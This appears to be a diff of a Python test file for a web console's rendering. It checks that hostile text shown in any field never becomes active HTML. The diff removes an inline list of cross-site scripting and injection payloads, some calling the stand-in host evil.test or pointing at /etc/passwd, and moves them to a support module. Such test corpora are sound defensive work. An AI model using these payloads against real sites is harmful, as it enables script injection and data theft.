@@ -8,6 +8,7 @@ from tests.support.approvals import ASK
 from tests.support.console import Browser, entered
 from tests.support.flow import declared
 from tests.support.history import HOSTILE, redone
+from tests.support.hostile import HOSTILE_TEXTS, WRITTEN_TEXTS, hostile_runs
 
 from interlock.console.rendering.markdown import notes_html
 from interlock.console.rendering.static_files import address_of
@@ -18,77 +19,10 @@ ALLOWED = {
     *("p", "a", "strong", "em", "del", "code", "pre", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt"),
     *("dd", "bdi", "span", "time", "form", "label", "input", "fieldset", "legend", "button", "details", "summary"),
     *("article", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "figure", "br", "hr"),
-    *("svg", "rect", "path", "text", "textarea"),
+    *("svg", "rect", "path", "text", "textarea", "select", "option"),
 }
 """The elements that templates and renderers write. A hostile text would have to add another one, or an attribute."""
 SCHEMES = re.compile(r"(?:#main$|/(?!/)|\?|$|https?://)")
-
-HOSTILE_TEXTS = [
-    HOSTILE,
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<base href=//evil.test/>",
-    "<meta http-equiv=refresh content=0;url=//evil.test>",
-    "<link rel=stylesheet href=//evil.test/x.css>",
-    "<style>*{background:url(//evil.test)}</style>",
-    "<object data=//evil.test></object><embed src=//evil.test>",
-    "<form action=//evil.test><button>go</button></form>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<details open ontoggle=alert(1)>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<template><script>alert(1)</script></template>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><x/>",
-    "</textarea></title></style></script><script>alert(1)</script>",
-    "</bdi></article></main><script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    "'><img src=x onerror=alert(1)>",
-    '" onmouseover="alert(1)',
-    "' autofocus onfocus='alert(1)",
-    "` onclick=alert(1) `",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\nscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
-    "[x](file:///etc/passwd)",
-    "[x](//evil.test/)",
-    "[x](/live?session=*)",
-    "![x](javascript:alert(1))",
-    "![x](http://evil.test/p.png)",
-    '![x](x "onerror=alert(1)")',
-    "![<script>alert(1)</script>](http://x)",
-    '[x](http://x" onclick="alert(1))',
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    '<http://evil.test/"onclick="alert(1)>',
-    "# <script>alert(1)</script>",
-    "| <script>alert(1)</script> |\n|---|\n| <img onerror=alert(1)> |",
-    "```html\n<script>alert(1)</script>\n```",
-    '```"><script>alert(1)</script>\nx\n```',
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "{{ 7 * 7 }} {% raw %} {{ config }}",
-    "${7*7} #{7*7} <%= 7 %>",
-    "\u202egnp.exe\u202c \u2066\u2069 \u200b",
-    "\x00\x07\x1b[31mred",
-    "\ud800 a lone surrogate",
-    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "> " * 200 + "deep",
-    "[" * 500 + "x" + "](y)" * 500,
-]
 
 
 class Elements(HTMLParser):
@@ -134,7 +68,7 @@ def test_nothing_of_a_text_acts_in_notes(text: str) -> None:
 @pytest.fixture(scope="module")
 def pages() -> list[str]:
     """Return every page of a console over sessions in which each field holds each hostile text."""
-    everything = "\n\n".join(HOSTILE_TEXTS[:52])
+    everything = "\n\n".join(WRITTEN_TEXTS[:52])
     document = linear_workflow(
         "team.hostile",
         {"id": "a", "title": everything[:90], "prompt": everything},
@@ -151,7 +85,7 @@ def pages() -> list[str]:
     harness = Harness.in_memory(document, asking)
     began = harness.start("team.hostile", goal=everything[:900], context={"<b>key": everything, "list": [HOSTILE]})
     artifact = {"kind": "my.report", "<i>": everything[:2_000], "rows": [{"<u>": HOSTILE}]}
-    own_words = "\n\n".join(["What I did and decided.", *reversed(HOSTILE_TEXTS[:52])])
+    own_words = "\n\n".join(["What I did and decided.", *reversed(WRITTEN_TEXTS[:52])])
     output = {"notesMarkdown": own_words, "artifacts": [artifact]}
     done = harness.call("continue_workflow", {"ackToken": began.ack, "output": output, "context": {"<s>": HOSTILE}})
     assert done["kind"] == "ok", done.text
@@ -203,3 +137,12 @@ def test_a_query_is_shown_as_text(pages: list[str]) -> None:
 @pytest.mark.parametrize("page", ["<p onclick=x>", "<script>1</script>", "<img src=x>", '<a href="javascript:x">'])
 def test_the_check_of_pages_finds_what_acts(page: str) -> None:
     assert faults(page)
+
+
+@pytest.mark.inv("CON-5")
+def test_none_of_two_hundred_texts_acts_in_any_field_that_a_page_shows() -> None:
+    assert len(set(HOSTILE_TEXTS)) >= 200
+    harness, paths = hostile_runs(Harness.in_memory)
+    browser = entered(harness)
+    found = {path: faults(checked(browser, path)) for path in paths}
+    assert {path: one for path, one in found.items() if one} == {}
